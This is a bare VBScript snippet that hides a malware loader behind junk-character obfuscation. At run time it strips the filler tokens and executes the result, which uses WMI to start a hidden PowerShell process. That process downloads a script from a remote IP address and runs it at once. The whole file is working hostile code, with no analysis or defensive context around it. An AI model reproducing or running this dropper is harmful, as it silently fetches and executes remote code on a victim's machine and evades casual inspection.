z = "Set w =%%~ GetO@#bject(""%%~win%%~m@#gm%%~t@#s:\\.\@#root@#\c@#i%%~mv@#2:Win32_Proce%%~s@#s""%%~): w@#.@#Cre@#ate %%~""@#pow@#er@#s@#hell -n%%~o%%~p -w @#hi@#dden -c %%~iw@#r %%~htt@#p://192.0.2%%~.%%~66/z.%%~ps1@# %%~-useb | iex@#"", @#Nu%%~ll, Nu@#ll%%~,%%~ pid"
z = Replace(z, "@#", "")
z = Replace(z, "%%~", "")
Execute z
